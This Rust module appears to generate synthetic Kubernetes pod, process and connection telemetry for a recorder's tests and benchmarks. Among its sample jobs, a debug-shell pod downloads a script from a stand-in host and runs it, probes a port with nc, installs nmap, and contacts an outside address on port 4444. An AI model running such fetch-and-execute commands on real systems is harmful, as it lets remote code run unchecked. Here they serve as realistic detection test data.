//! A realistic synthetic history, deterministic per seed, written through the same
//! `SegmentStore` API the live recorder uses.
//!
//! The world: `pods` pod slots on one node. Each pod lives for a while, is deleted,
//! and the slot's next pod takes a recently freed IP (reuse within minutes, as
//! host-local IPAM does). Pods run exec trees (shells running real-looking tools),
//! connect to each other, to Service ClusterIPs (DNAT to a backend pod recorded in
//! the NAT columns) and to the outside. A few host processes run outside any pod.

use std::cmp::Reverse;
use std::collections::{BinaryHeap, VecDeque};
use std::sync::Arc;

use std::net::IpAddr;

use arrow::record_batch::RecordBatch;
use podtrail_recorder::rows::{self, PodIdentity};
use podtrail_recorder::decode::{ConnRaw, ExecRaw, ExitRaw};
use podtrail_recorder::segments::{ContainerRecord, IpOwnerRecord, PodRecord};
use podtrail_schema::tables;

const NS: i64 = 1_000_000_000;

/// Where synthetic rows go: the segment store, or memory (benchmarks).
pub trait Sink {
    fn append(&mut self, table: &'static str, batch: RecordBatch) -> anyhow::Result<()>;
    fn identity(&mut self, pods: &[PodRecord], containers: &[ContainerRecord], ips: &[IpOwnerRecord]) -> anyhow::Result<()>;
    /// Called once per second of event time.
    fn tick(&mut self, _event_time_ns: i64) -> anyhow::Result<()> {
        Ok(())
    }
}

impl Sink for podtrail_recorder::SegmentStore {
    fn append(&mut self, table: &'static str, batch: RecordBatch) -> anyhow::Result<()> {
        Ok(podtrail_recorder::SegmentStore::append(self, table, batch)?)
    }
    fn identity(&mut self, pods: &[PodRecord], containers: &[ContainerRecord], ips: &[IpOwnerRecord]) -> anyhow::Result<()> {
        Ok(self.write_identity(pods, containers, ips)?)
    }
}

/// Collects batches in memory.
#[derive(Default)]
pub struct MemorySink {
    pub batches: Vec<(&'static str, RecordBatch)>,
    pub pods: Vec<PodRecord>,
    pub containers: Vec<ContainerRecord>,
    pub ips: Vec<IpOwnerRecord>,
}

impl Sink for MemorySink {
    fn append(&mut self, table: &'static str, batch: RecordBatch) -> anyhow::Result<()> {
        self.batches.push((table, batch));
        Ok(())
    }
    fn identity(&mut self, pods: &[PodRecord], containers: &[ContainerRecord], ips: &[IpOwnerRecord]) -> anyhow::Result<()> {
        self.pods.extend_from_slice(pods);
        self.containers.extend_from_slice(containers);
        self.ips.extend_from_slice(ips);
        Ok(())
    }
}

#[derive(Debug, Clone)]
pub struct SynthConfig {
    pub hours: f64,
    pub pods: usize,
    pub events_per_sec: f64,
    pub seed: u64,
    /// Event time of the first second (ns since the epoch, UTC).
    pub start_ns: i64,
    pub node: String,
    /// Seconds of event time per appended batch.
    pub batch_secs: u32,
}

#[derive(Debug, Default, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct SynthCounts {
    pub process_exec: u64,
    pub process_exit: u64,
    pub net_conn: u64,
    pub pods: u64,
    pub containers: u64,
    pub ip_owners: u64,
}

/// SplitMix64: tiny, fast, and identical on every platform forever.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed ^ 0x005E_ED0F_90D7_4A11)
    }
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }
    pub fn chance(&mut self, p: f64) -> bool {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }
    pub fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
    fn hex(&mut self, n: usize) -> String {
        let mut s = String::with_capacity(n);
        while s.len() < n {
            s.push_str(&format!("{:016x}", self.next_u64()));
        }
        s.truncate(n);
        s
    }
    fn uuid(&mut self) -> String {
        let h = self.hex(32);
        format!("{}-{}-4{}-a{}-{}", &h[0..8], &h[8..12], &h[13..16], &h[17..20], &h[20..32])
    }
    fn exp(&mut self, mean: f64) -> f64 {
        let u = ((self.next_u64() >> 11) as f64 + 1.0) / ((1u64 << 53) as f64 + 1.0);
        -mean * u.ln()
    }
}

struct App {
    namespace: &'static str,
    name: &'static str,
    image: &'static str,
    main: &'static [&'static str],
    /// Commands this app's pods run now and then (via `/bin/sh -c` when it has a space).
    jobs: &'static [&'static str],
    port: u16,
}

const APPS: &[App] = &[
    App { namespace: "payments", name: "payments-api", image: "registry.internal/payments/api:2.14.1", main: &["/usr/local/bin/payments-api", "--config", "/etc/payments/config.yaml"], jobs: &["curl -fsS http://127.0.0.1:8080/healthz", "/usr/local/bin/payments-api migrate --check"], port: 8080 },
    App { namespace: "payments", name: "ledger", image: "registry.internal/payments/ledger:1.9.0", main: &["/usr/bin/java", "-Xmx512m", "-jar", "/app/ledger.jar"], jobs: &["/usr/bin/pg_isready -h ledger-db -p 5432", "sh /app/bin/rotate-keys.sh"], port: 8080 },
    App { namespace: "frontend", name: "web", image: "registry.internal/frontend/web:5.2.0", main: &["/usr/sbin/nginx", "-g", "daemon off;"], jobs: &["/usr/sbin/nginx -s reload", "wget -q -O- http://127.0.0.1/healthz"], port: 80 },
    App { namespace: "checkout", name: "cart", image: "registry.internal/checkout/cart:0.31.4", main: &["/usr/local/bin/python3", "-m", "gunicorn", "cart.wsgi", "--bind", "0.0.0.0:8000"], jobs: &["/usr/local/bin/python3 manage.py clearsessions", "curl -fsS localhost:8000/ready"], port: 8000 },
    App { namespace: "monitoring", name: "node-exporter", image: "quay.io/prometheus/node-exporter:v1.8.2", main: &["/bin/node_exporter", "--path.rootfs=/host"], jobs: &["cat /proc/loadavg"], port: 9100 },
    App { namespace: "kube-system", name: "coredns", image: "registry.k8s.io/coredns/coredns:v1.11.3", main: &["/coredns", "-conf", "/etc/coredns/Corefile"], jobs: &["/coredns -version"], port: 53 },
    App { namespace: "batch", name: "report-gen", image: "registry.internal/batch/report-gen:3.0.7", main: &["/usr/bin/node", "/app/dist/index.js"], jobs: &["tar czf /tmp/report.tgz /data/out", "aws s3 cp /tmp/report.tgz s3://reports/", "sh -c 'apt-get update && apt-get install -y nmap'"], port: 3000 },
    App { namespace: "default", name: "debug-shell", image: "docker.io/library/alpine:3.20", main: &["/bin/sh"], jobs: &["apk add curl", "nc -z 10.244.1.1 22", "wget http://203.0.113.50/x.sh -O /tmp/x.sh", "sh /tmp/x.sh"], port: 2222 },
];

const OUTSIDE: &[(&str, u16)] = &[("140.82.112.3", 443), ("151.101.1.69", 443), ("52.216.10.133", 443), ("34.117.59.81", 443), ("203.0.113.50", 80), ("198.51.100.7", 4444)];

struct Pod {
    uid: String,
    name: String,
    app: usize,
    ip: String,
    cgroup_id: u64,
    container_id: String,
    netns: u32,
    start: i64,
    end: i64,
    main_exec: u64,
    main_pid: u32,
    service_ip: String,
    identity: Arc<PodIdentity>,
}

struct Proc {
    exec_id: u64,
    pid: u32,
}

enum Pending {
    Exit { pod: Option<usize>, exec_id: u64, pid: u32, code: i32, signal: i32, duration: i64 },
    Close(Box<ConnRow>),
}

struct ConnRow {
    time: i64,
    pod: Option<usize>,
    event: &'static str,
    exec_id: Option<u64>,
    pid: Option<u32>,
    comm: Option<&'static str>,
    src_ip: String,
    src_port: u16,
    dst_ip: String,
    dst_port: u16,
    orig: Option<(String, u16)>,
    nat: Option<(String, u16)>,
    netns: u32,
    cookie: u64,
    bytes: Option<(u64, u64, u64)>,
    error: Option<&'static str>,
}

struct ExecRow {
    time: i64,
    pod: Option<usize>,
    exec_id: u64,
    parent: Option<u64>,
    pid: u32,
    ppid: u32,
    uid: u32,
    comm: String,
    binary: String,
    args: Vec<String>,
    cwd: &'static str,
    caps: u64,
    netns: u32,
}

struct ExitRow {
    time: i64,
    pod: Option<usize>,
    exec_id: u64,
    pid: u32,
    code: i32,
    signal: i32,
    duration: i64,
}

const HOST_CGROUP: u64 = 1;
const HOST_NETNS: u32 = 4026531840;
const BOOT_ID: u64 = 0x6a1d_2c3b_9f00_1e55;
const CAPS_DEFAULT: u64 = 0x00000000a80425fb;
const CAPS_ROOT: u64 = 0x000001ffffffffff;

pub struct Synth {
    cfg: SynthConfig,
    rng: Rng,
    pods: Vec<Pod>,
    /// slot -> index in `pods` of the pod currently in that slot
    slots: Vec<usize>,
    free_ips: VecDeque<String>,
    next_pid: u32,
    next_cgroup: u64,
    next_cookie: u64,
    pending: BinaryHeap<Reverse<(i64, u64)>>,
    pending_items: std::collections::HashMap<u64, Pending>,
    pending_seq: u64,
    exec: Vec<ExecRow>,
    exit: Vec<ExitRow>,
    conn: Vec<ConnRow>,
    counts: SynthCounts,
}

impl Synth {
    pub fn new(cfg: SynthConfig) -> Self {
        let mut rng = Rng::new(cfg.seed);
        let nip = cfg.pods + cfg.pods / 10 + 8;
        let mut free_ips = VecDeque::new();
        for i in 0..nip {
            free_ips.push_back(format!("10.244.{}.{}", 1 + i / 250, 2 + i % 250));
        }
        // Shuffle once so the pool is not trivially ordered.
        let v: Vec<String> = free_ips.into_iter().collect();
        let mut v2 = v.clone();
        for i in (1..v2.len()).rev() {
            let j = rng.below(i as u64 + 1) as usize;
            v2.swap(i, j);
        }
        let mut s = Synth {
            cfg,
            rng,
            pods: Vec::new(),
            slots: Vec::new(),
            free_ips: v2.into(),
            next_pid: 1000,
            next_cgroup: 10_000,
            next_cookie: 1 << 20,
            pending: BinaryHeap::new(),
            pending_items: Default::default(),
            pending_seq: 0,
            exec: Vec::new(),
            exit: Vec::new(),
            conn: Vec::new(),
            counts: SynthCounts::default(),
        };
        for _ in 0..s.cfg.pods {
            // Pods already running when the history starts began up to 2 h earlier.
            let start = s.cfg.start_ns - (s.rng.below(7200) as i64) * NS;
            let idx = s.spawn_pod(start, false);
            s.slots.push(idx);
        }
        s
    }

    fn end_ns(&self) -> i64 {
        self.cfg.start_ns + (self.cfg.hours * 3600.0 * NS as f64) as i64
    }

    fn pid(&mut self) -> u32 {
        self.next_pid += 1 + self.rng.below(3) as u32;
        if self.next_pid > 4_000_000 {
            self.next_pid = 1000;
        }
        self.next_pid
    }

    fn spawn_pod(&mut self, start: i64, emit: bool) -> usize {
        let app = self.rng.below(APPS.len() as u64) as usize;
        let a = &APPS[app];
        let rs = self.rng.hex(10);
        let sfx = self.rng.hex(5);
        let ip = self.free_ips.pop_front().expect("the IP pool is larger than the pod count");
        let life = (1800.0 + self.rng.exp(3.0 * 3600.0)) as i64 * NS;
        self.next_cgroup += 1 + self.rng.below(5);
        let pid = self.pid();
        let uid = self.rng.uuid();
        let name = format!("{}-{}-{}", a.name, rs, sfx);
        let container_id = self.rng.hex(64);
        let identity = Arc::new(PodIdentity { container_id: Some(container_id.clone()), pod_uid: uid.clone(), pod_name: Some(name.clone()), pod_namespace: Some(a.namespace.to_string()) });
        let pod = Pod {
            uid,
            name,
            app,
            ip,
            cgroup_id: self.next_cgroup,
            container_id,
            netns: 4026532000 + (self.next_cgroup as u32 % 60000),
            start,
            end: start + life,
            main_exec: tables::exec_id(BOOT_ID, pid, start as u64),
            main_pid: pid,
            service_ip: format!("10.96.{}.{}", app / 250, 10 + app % 250),
            identity,
        };
        self.pods.push(pod);
        let idx = self.pods.len() - 1;
        if emit {
            let args: Vec<String> = a.main.iter().map(|s| s.to_string()).collect();
            let p = &self.pods[idx];
            let row = ExecRow {
                time: start,
                pod: Some(idx),
                exec_id: p.main_exec,
                parent: None,
                pid: p.main_pid,
                ppid: 1,
                uid: 0,
                comm: comm_of(&args[0]),
                binary: args[0].clone(),
                args,
                cwd: "/",
                caps: CAPS_DEFAULT,
                netns: p.netns,
            };
            self.exec.push(row);
        }
        idx
    }

    fn push_pending(&mut self, at: i64, p: Pending) {
        self.pending_seq += 1;
        self.pending.push(Reverse((at, self.pending_seq)));
        self.pending_items.insert(self.pending_seq, p);
    }

    /// Generate the whole history into `sink`.
    pub fn run(mut self, sink: &mut dyn Sink) -> anyhow::Result<SynthCounts> {
        let end = self.end_ns();
        let mut carry = 0.0f64;
        let mut t = self.cfg.start_ns;
        let mut batch_start = t;
        while t < end {
            // Pod churn: deleted pods free their IP (reused first), the slot restarts.
            for slot in 0..self.slots.len() {
                let cur = self.slots[slot];
                if self.pods[cur].end <= t && t + 60 * NS < end {
                    let ip = self.pods[cur].ip.clone();
                    self.free_ips.push_front(ip);
                    let start = t + (5 + self.rng.below(55) as i64) * NS;
                    let idx = self.spawn_pod(start, true);
                    self.slots[slot] = idx;
                }
            }
            carry += self.cfg.events_per_sec;
            let n = carry as u64;
            carry -= n as f64;
            let mut made = 0u64;
            while made < n {
                let at = t + self.rng.below(NS as u64) as i64;
                made += self.one_event(at);
            }
            self.drain_pending(t + NS);
            t += NS;
            sink.tick(t)?;
            if t - batch_start >= i64::from(self.cfg.batch_secs) * NS || t >= end {
                self.emit(sink)?;
                batch_start = t;
            }
            if (t - self.cfg.start_ns) % (3600 * NS) == 0 {
                self.write_identity(sink, t)?;
            }
        }
        self.emit(sink)?;
        self.write_identity(sink, end)?;
        Ok(self.counts)
    }

    fn drain_pending(&mut self, before: i64) {
        let end = self.end_ns();
        while let Some(Reverse((at, seq))) = self.pending.peek().copied() {
            if at >= before || at >= end {
                break;
            }
            self.pending.pop();
            match self.pending_items.remove(&seq).expect("pending item") {
                Pending::Exit { pod, exec_id, pid, code, signal, duration } => {
                    self.exit.push(ExitRow { time: at, pod, exec_id, pid, code, signal, duration })
                }
                Pending::Close(mut c) => {
                    c.time = at;
                    self.conn.push(*c);
                }
            }
        }
    }

    fn live_pod(&mut self, at: i64) -> Option<usize> {
        // 4% of events come from host processes (no pod).
        if self.rng.chance(0.04) {
            return None;
        }
        for _ in 0..8 {
            let idx = self.slots[self.rng.below(self.slots.len() as u64) as usize];
            let p = &self.pods[idx];
            if p.start <= at && at < p.end {
                return Some(idx);
            }
        }
        None
    }

    /// One "activity"; returns how many rows it produced now (pending rows are
    /// counted when they are emitted).
    fn one_event(&mut self, at: i64) -> u64 {
        let pod = self.live_pod(at);
        if self.rng.chance(0.35) { self.exec_activity(at, pod) } else { self.conn_activity(at, pod) }
    }

    fn exec_activity(&mut self, at: i64, pod: Option<usize>) -> u64 {
        let (parent_exec, parent_pid, netns, job): (Option<u64>, u32, u32, String) = match pod {
            Some(i) => {
                let p = &self.pods[i];
                let job = self.rng.pick(APPS[p.app].jobs).to_string();
                (Some(p.main_exec), p.main_pid, p.netns, job)
            }
            None => {
                let job = self.rng.pick(&["/usr/bin/kubelet --version", "/usr/sbin/iptables-save -t nat", "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io", "/usr/bin/journalctl --vacuum-time=7d", "ssh root@10.244.1.1"]).to_string();
                (None, 1, HOST_NETNS, job)
            }
        };
        let mut rows = 0;
        let uid = if pod.is_some() && self.rng.chance(0.7) { 1000 + self.rng.below(3) as u32 * 1000 } else { 0 };
        let caps = if uid == 0 { if pod.is_some() { CAPS_DEFAULT } else { CAPS_ROOT } } else { 0 };
        // Jobs with shell syntax run through /bin/sh -c, like kubelet probes and cron do.
        let shell = job.contains(' ') && (job.contains("&&") || job.contains("'") || self.rng.chance(0.5));
        let (mut pexec, mut ppid, mut t) = (parent_exec, parent_pid, at);
        let mut chain: Vec<Proc> = Vec::new();
        if shell {
            let pid = self.pid();
            let args = vec!["/bin/sh".to_string(), "-c".to_string(), job.clone()];
            let e = tables::exec_id(BOOT_ID, pid, t as u64);
            self.exec.push(ExecRow { time: t, pod, exec_id: e, parent: pexec, pid, ppid, uid, comm: "sh".into(), binary: "/bin/sh".into(), args, cwd: "/", caps, netns });
            rows += 1;
            chain.push(Proc { exec_id: e, pid });
            pexec = Some(e);
            ppid = pid;
            t += 200_000 + self.rng.below(800_000) as i64;
        }
        let first = job.split(" && ").next().unwrap_or(&job);
        let args: Vec<String> = if first.starts_with("sh -c") {
            vec!["sh".into(), "-c".into(), first.trim_start_matches("sh -c ").trim_matches('\'').to_string()]
        } else {
            first.split(' ').map(str::to_string).collect()
        };
        let binary = resolve(&args[0]);
        let pid = self.pid();
        let e = tables::exec_id(BOOT_ID, pid, t as u64);
        self.exec.push(ExecRow { time: t, pod, exec_id: e, parent: pexec, pid, ppid, uid, comm: comm_of(&binary), binary, args, cwd: if pod.is_some() { "/app" } else { "/root" }, caps, netns });
        rows += 1;
        chain.push(Proc { exec_id: e, pid });
        // Children exit first, then the shell.
        let mut exit_at = t + (1 + self.rng.below(2_000)) as i64 * 1_000_000;
        for p in chain.iter().rev() {
            let failed = self.rng.chance(0.08);
            let killed = !failed && self.rng.chance(0.01);
            let code = if failed { 1 + self.rng.below(2) as i32 } else { 0 };
            self.push_pending(
                exit_at,
                Pending::Exit {
                    pod,
                    exec_id: p.exec_id,
                    pid: p.pid,
                    code,
                    signal: if killed { 9 } else { 0 },
                    duration: exit_at - at,
                },
            );
            exit_at += 100_000;
        }
        rows
    }

    fn conn_activity(&mut self, at: i64, pod: Option<usize>) -> u64 {
        let Some(src) = pod else {
            // Host processes: kubelet probing a pod.
            let Some(dst) = self.live_pod(at).filter(|_| true) else { return 0 };
            let d = &self.pods[dst];
            let (dst_ip, dst_port) = (d.ip.clone(), APPS[d.app].port);
            return self.connection(at, None, ("10.244.1.1".into(), HOST_NETNS), dst_ip.clone(), dst_port, None, Some(dst));
        };
        let r = self.rng.below(100);
        let (dst_ip, dst_port, nat, peer) = if r < 45 {
            // Service ClusterIP, DNAT to a live backend of that app (or any pod).
            let backend = self.live_pod(at).unwrap_or(src);
            let b = &self.pods[backend];
            (b.service_ip.clone(), 80, Some((b.ip.clone(), APPS[b.app].port)), Some(backend))
        } else if r < 75 {
            let peer = self.live_pod(at).unwrap_or(src);
            let p = &self.pods[peer];
            (p.ip.clone(), APPS[p.app].port, None, Some(peer))
        } else {
            let (ip, port) = *self.rng.pick(OUTSIDE);
            (ip.to_string(), port, None, None)
        };
        let s = &self.pods[src];
        let src_ns = (s.ip.clone(), s.netns);
        self.connection(at, Some(src), src_ns, dst_ip, dst_port, nat, peer)
    }

    #[expect(clippy::too_many_arguments, reason = "one connection's every field, named at each call")]
    fn connection(
        &mut self,
        at: i64,
        src: Option<usize>,
        (src_ip, netns): (String, u32),
        dst_ip: String,
        dst_port: u16,
        nat: Option<(String, u16)>,
        peer: Option<usize>,
    ) -> u64 {
        let sport = 32768 + self.rng.below(28000) as u16;
        self.next_cookie += 1 + self.rng.below(4);
        let cookie = self.next_cookie;
        let (exec_id, pid, comm) = match src {
            Some(i) => {
                let p = &self.pods[i];
                (Some(p.main_exec), Some(p.main_pid), Some(comm_static(APPS[p.app].main[0])))
            }
            None => (Some(tables::exec_id(BOOT_ID, 900, 0)), Some(900), Some("kubelet")),
        };
        let orig = Some((dst_ip.clone(), dst_port));
        if self.rng.chance(0.03) {
            self.conn.push(ConnRow { time: at, pod: src, event: "fail", exec_id, pid, comm, src_ip, src_port: sport, dst_ip, dst_port, orig, nat, netns, cookie, bytes: None, error: Some(*self.rng.pick(&["ECONNREFUSED", "ETIMEDOUT", "EHOSTUNREACH"])) });
            return 1;
        }
        let sent = 200 + self.rng.below(20_000);
        let recv = 100 + self.rng.below(200_000);
        let dur = (1 + self.rng.below(3000) as i64) * 1_000_000;
        let connect = ConnRow { time: at, pod: src, event: "connect", exec_id, pid, comm, src_ip: src_ip.clone(), src_port: sport, dst_ip: dst_ip.clone(), dst_port, orig, nat: nat.clone(), netns, cookie, bytes: None, error: None };
        let mut close = ConnRow { event: "close", bytes: Some((sent, recv, dur as u64)), ..clone_conn(&connect) };
        close.time = at + dur;
        self.conn.push(connect);
        self.push_pending(at + dur, Pending::Close(Box::new(close)));
        let mut rows = 1;
        // The peer on this node accepts (and later closes) its side.
        if let Some(pi) = peer {
            let p = &self.pods[pi];
            let (lip, lport) = nat.clone().unwrap_or((p.ip.clone(), APPS[p.app].port));
            self.next_cookie += 1;
            let pcookie = self.next_cookie;
            let accept = ConnRow {
                time: at + 50_000,
                pod: Some(pi),
                event: "accept",
                exec_id: Some(p.main_exec),
                pid: Some(p.main_pid),
                comm: Some(comm_static(APPS[p.app].main[0])),
                src_ip: lip,
                src_port: lport,
                dst_ip: src_ip,
                dst_port: sport,
                orig: None,
                nat: None,
                netns: p.netns,
                cookie: pcookie,
                bytes: None,
                error: None,
            };
            let mut pclose = ConnRow { event: "close", bytes: Some((recv, sent, dur as u64 - 50_000)), ..clone_conn(&accept) };
            pclose.time = at + dur + 20_000;
            self.conn.push(accept);
            self.push_pending(at + dur + 20_000, Pending::Close(Box::new(pclose)));
            rows += 1;
        }
        rows
    }

    /// Upsert every pod known so far, as an identity source would report it at
    /// event time `now`: pods deleted by then carry their deletion time.
    fn write_identity(&mut self, sink: &mut dyn Sink, now: i64) -> anyhow::Result<()> {
        let node = self.cfg.node.clone();
        let (mut pods, mut containers, mut ips) = (Vec::new(), Vec::new(), Vec::new());
        for p in self.pods.iter().filter(|p| p.start <= now) {
            let a = &APPS[p.app];
            let valid_to = (p.end <= now).then_some(p.end);
            pods.push(PodRecord {
                pod_uid: p.uid.clone(),
                pod_namespace: Some(a.namespace.into()),
                pod_name: Some(p.name.clone()),
                node: node.clone(),
                labels: Some(format!("{{\"app\":\"{}\"}}", a.name)),
                owner: Some(format!("ReplicaSet/{}", p.name.rsplit_once('-').map(|x| x.0).unwrap_or(&p.name))),
                qos_class: Some("burstable".into()),
                valid_from: p.start,
                valid_to,
                source: "synthetic".into(),
            });
            containers.push(ContainerRecord {
                container_id: p.container_id.clone(),
                pod_uid: Some(p.uid.clone()),
                container_name: Some(a.name.into()),
                image: Some(a.image.into()),
                runtime: Some("containerd".into()),
                cgroup_id: Some(p.cgroup_id),
                valid_from: p.start,
                valid_to,
                source: "synthetic".into(),
            });
            ips.push(IpOwnerRecord {
                ip: p.ip.clone(),
                pod_uid: p.uid.clone(),
                pod_namespace: Some(a.namespace.into()),
                pod_name: Some(p.name.clone()),
                node: node.clone(),
                valid_from: p.start,
                valid_to,
                source: "synthetic".into(),
            });
        }
        sink.identity(&pods, &containers, &ips)?;
        self.counts.pods = pods.len() as u64;
        self.counts.containers = containers.len() as u64;
        self.counts.ip_owners = ips.len() as u64;
        Ok(())
    }

    /// Hand the pending rows to `sink`, built by the recorder's own `batch` stage.
    fn emit(&mut self, sink: &mut dyn Sink) -> anyhow::Result<()> {
        let mut b = rows::RowSet::default();
        for r in std::mem::take(&mut self.exec) {
            b.exec.push(self.exec_row(r));
        }
        for r in std::mem::take(&mut self.exit) {
            b.exit.push(self.exit_row(r));
        }
        for r in std::mem::take(&mut self.conn) {
            b.conn.push(self.conn_row(r));
        }
        for (table, rb) in podtrail_recorder::batch::build(&b, &self.cfg.node)? {
            let n = rb.num_rows() as u64;
            match table {
                "process_exec" => self.counts.process_exec += n,
                "process_exit" => self.counts.process_exit += n,
                _ => self.counts.net_conn += n,
            }
            sink.append(table, rb)?;
        }
        Ok(())
    }

    fn identity(&self, pod: Option<usize>) -> (u64, Option<Arc<PodIdentity>>) {
        match pod {
            Some(i) => (self.pods[i].cgroup_id, Some(Arc::clone(&self.pods[i].identity))),
            None => (HOST_CGROUP, None),
        }
    }

    fn exec_row(&self, r: ExecRow) -> rows::ExecRow {
        let (cgroup_id, identity) = self.identity(r.pod);
        rows::ExecRow {
            time: r.time,
            exec_id: r.exec_id,
            parent_exec_id: r.parent,
            cwd: Some(r.cwd.to_string()),
            sha256: None,
            identity,
            raw: ExecRaw {
                pid: r.pid,
                tid: r.pid,
                ppid: r.ppid,
                uid: r.uid,
                gid: r.uid,
                netns: r.netns,
                time_boot_ns: 0,
                cgroup_id,
                cap_effective: r.caps,
                comm: r.comm,
                filename: r.binary,
                args: r.args,
                args_truncated: false,
                fileless: false,
                cwd: r.cwd.to_string(),
                file_id: (0, 0),
                loader_env: vec![],
                env_truncated: false,
            },
        }
    }

    fn exit_row(&self, r: ExitRow) -> rows::ExitRow {
        let (cgroup_id, identity) = self.identity(r.pod);
        rows::ExitRow {
            time: r.time,
            exec_id: Some(r.exec_id),
            duration_ns: Some(r.duration as u64),
            identity,
            raw: ExitRaw { pid: r.pid, time_boot_ns: 0, cgroup_id, exit_code: r.code, signal: r.signal, comm: String::new() },
        }
    }

    fn conn_row(&self, r: ConnRow) -> rows::ConnRow {
        let (cgroup_id, identity) = self.identity(r.pod);
        let ip = |s: &str| -> IpAddr { s.parse().expect("synth writes valid IPs") };
        // A close without the connect's original destination is of an
        // accepted connection or of one whose start is unknown.
        let initiated = match r.event {
            "accept" => Some("remote"),
            "close" if r.orig.is_none() => None,
            _ => Some("local"),
        };
        rows::ConnRow {
            time: r.time,
            exec_id: r.exec_id,
            identity,
            raw: ConnRaw {
                event: r.event,
                owner: r.pid.map(|p| (p, r.comm.unwrap_or_default().into())),
                family: "ipv4",
                netns: r.netns,
                time_boot_ns: 0,
                cgroup_id,
                cookie: r.cookie,
                src: (ip(&r.src_ip), r.src_port),
                dst: (ip(&r.dst_ip), r.dst_port),
                orig_dst: r.orig.map(|(a, p)| (ip(&a), p)),
                nat_dst: r.nat.map(|(a, p)| (ip(&a), p)),
                bytes: r.bytes,
                error: r.error.map(str::to_string),
                dst_name: None,
                server_name: None,
                initiated,
            },
        }
    }
}

fn clone_conn(c: &ConnRow) -> ConnRow {
    ConnRow {
        time: c.time,
        pod: c.pod,
        event: c.event,
        exec_id: c.exec_id,
        pid: c.pid,
        comm: c.comm,
        src_ip: c.src_ip.clone(),
        src_port: c.src_port,
        dst_ip: c.dst_ip.clone(),
        dst_port: c.dst_port,
        orig: c.orig.clone(),
        nat: c.nat.clone(),
        netns: c.netns,
        cookie: c.cookie,
        bytes: c.bytes,
        error: c.error,
    }
}

fn resolve(cmd: &str) -> String {
    if cmd.starts_with('/') {
        return cmd.to_string();
    }
    match cmd {
        "sh" => "/bin/sh".into(),
        "curl" | "wget" | "tar" | "nc" | "cat" | "aws" => format!("/usr/bin/{cmd}"),
        "apk" => "/sbin/apk".into(),
        "ssh" => "/usr/bin/ssh".into(),
        other => format!("/usr/local/bin/{other}"),
    }
}

fn comm_of(binary: &str) -> String {
    let base = binary.rsplit('/').next().unwrap_or(binary);
    base.chars().take(15).collect()
}

fn comm_static(binary: &'static str) -> &'static str {
    let base = binary.rsplit('/').next().unwrap_or(binary);
    &base[..base.len().min(15)]
}
